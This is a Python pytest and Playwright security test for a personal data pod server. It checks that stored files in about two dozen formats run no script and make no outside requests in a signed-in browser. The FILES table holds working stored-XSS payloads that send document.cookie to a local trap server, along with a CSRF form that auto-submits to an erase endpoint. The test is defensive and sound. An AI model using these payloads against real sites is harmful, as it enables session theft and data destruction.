"""S24 in a browser: files with scripts in a pod, opened by somebody who is signed in, act for nobody."""

import json
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import live_server
import pytest
from fixtures_peers import PATIENCE
from playwright.sync_api import Error
from subscribers import Served

SCRIPT = "<script>fetch('{trap}?'+document.cookie);fetch('/me');alert(document.cookie)</script>"
STEAL = "fetch('{trap}?'+document.cookie);alert(1)"
XSL = (
    "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='#x'?><doc xmlns:h='http://www.w3.org/1999/xhtml'>"
    "<h:script>" + STEAL + "</h:script></doc>"
)
PAGE = "<!doctype html><title>x</title>"
FILES = {
    "script.html": ("text/html", PAGE + SCRIPT),
    "module.html": ("text/html", PAGE + "<script type=module>" + STEAL + "</script>"),
    "src.html": ("text/html", PAGE + "<script src='steal.js'></script><script src='{trap}'></script>"),
    "image.html": ("text/html", PAGE + '<img src=/x onerror="' + STEAL + '"><img src="{trap}">'),
    "svg.html": ("text/html", PAGE + '<svg onload="' + STEAL + '"></svg>'),
    "body.html": ("text/html", PAGE + '<body onload="' + STEAL + '">'),
    "frame.html": ("text/html", PAGE + "<iframe src='/me'></iframe><iframe srcdoc=\"" + SCRIPT + '"></iframe>'),
    "object.html": ("text/html", PAGE + "<object data='{trap}'></object><embed src='{trap}'>"),
    "meta.html": ("text/html", PAGE + '<meta http-equiv="refresh" content="0;url={trap}">'),
    "base.html": ("text/html", PAGE + "<base href='{trap}'><link rel=stylesheet href='a.css'>"),
    "style.html": ("text/html", PAGE + "<style>@import '{trap}';*{{background:url({trap})}}</style>x"),
    "link.html": ("text/html", PAGE + "<link rel=prefetch href='{trap}'><link rel=dns-prefetch href='{trap}'>"),
    "form.html": ("text/html", PAGE + "<form action=/me/erase method=post><input autofocus onfocus=form.submit()>"),
    "video.html": ("text/html", PAGE + '<video autoplay onerror="' + STEAL + '"><source src=/x></video>'),
    "utf7.html": ("text/html;charset=utf-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    "page.xhtml": (
        "application/xhtml+xml",
        "<html xmlns='http://www.w3.org/1999/xhtml'><script>" + STEAL + "</script></html>",
    ),
    "data.xml": ("application/xml", XSL),
    "text.xml": ("text/xml", XSL),
    "picture.svg": ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'><script>" + STEAL + "</script></svg>"),
    "load.svg": ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload=\"" + STEAL + '"></svg>'),
    "foreign.svg": (
        "image/svg+xml",
        "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload=\""
        + STEAL + "\"/></foreignObject><image href='{trap}'/></svg>",
    ),
    "steal.js": ("text/javascript", STEAL),
    "paper.pdf": ("application/pdf", "%PDF-1.4 1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"),
    "plain.txt": ("text/plain", PAGE + SCRIPT),
    "unknown": ("application/octet-stream", PAGE + SCRIPT),
    "data.json": ("application/json", '{{"x": "' + "<script>alert(1)</script>" + '"}}'),
    "words.ttl": ("text/turtle", '<> <http://schema.org/name> """' + SCRIPT + '""" .'),
}  # fmt: skip


class Trap(ThreadingHTTPServer):
    """Another origin, which counts who comes."""

    def __init__(self):
        self.came = []
        trap = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                trap.came.append(self.path)
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *_):
                return

        super().__init__(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server_port}/"


@pytest.fixture(scope="module")
def trap():
    made = Trap()
    thread = Thread(target=made.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    yield made
    made.shutdown()
    thread.join()
    made.server_close()


@pytest.fixture(scope="module")
def alice(tmp_path_factory, trap):
    """Alice's pod with every file, as she put it there herself or was made to."""
    folder = tmp_path_factory.mktemp("stored") / "data"
    with live_server.serving(folder) as base:
        made = Served(base, folder)
        made.person("alice")
        for name, (media_type, text) in FILES.items():
            made.put(f"/alice/public/{name}", text.format(trap=trap.url).encode(), media_type=media_type)
        yield made


@pytest.fixture(scope="module")
def signed_in(alice, browser):
    """Her browser, signed in."""
    context = browser.new_context(locale="en-GB", accept_downloads=False)
    context.set_default_timeout(PATIENCE)
    page = context.new_page()
    page.goto(f"{alice.base}me/sign-in")
    page.locator("input[name=name]").fill("alice")
    page.locator("input[name=password]").fill("a long password of alice")
    page.locator("button", has_text="Sign in").first.click()
    page.wait_for_url(f"{alice.base}me")
    yield context
    context.close()


@pytest.mark.parametrize("name", FILES)
def test_s24_a_stored_file_runs_nothing_and_asks_for_nothing(alice, signed_in, trap, name):
    address = f"{alice.base}alice/public/{name}"
    page = signed_in.new_page()
    said, asked = [], []
    page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
    page.on("requestfinished", lambda request: asked.append(request.url))
    before = len(trap.came)
    try:
        page.goto(address)
        page.wait_for_timeout(300)
        cookies = page.evaluate("(() => { try { return document.cookie } catch { return '' } })()")
    except Error as error:
        if "Download is starting" not in str(error):
            raise
        cookies = ""
    page.close()
    allowed = {address, f"{alice.base}favicon.ico"}
    beyond = {url for url in asked if url not in allowed and not url.startswith(f"{alice.base}static/")}
    assert (said, beyond, cookies) == ([], set(), "")
    assert len(trap.came) == before


def test_s24_the_trap_and_the_session_work(alice, signed_in, trap):
    """What the others rely on: the trap hears, and the browser is still signed in after all that."""
    page = signed_in.new_page()
    page.goto(trap.url + "heard")
    page.goto(f"{alice.base}me")
    assert page.url == f"{alice.base}me"
    page.close()
    assert "/heard" in trap.came
    assert json.dumps(signed_in.cookies()).count("session") >= 1
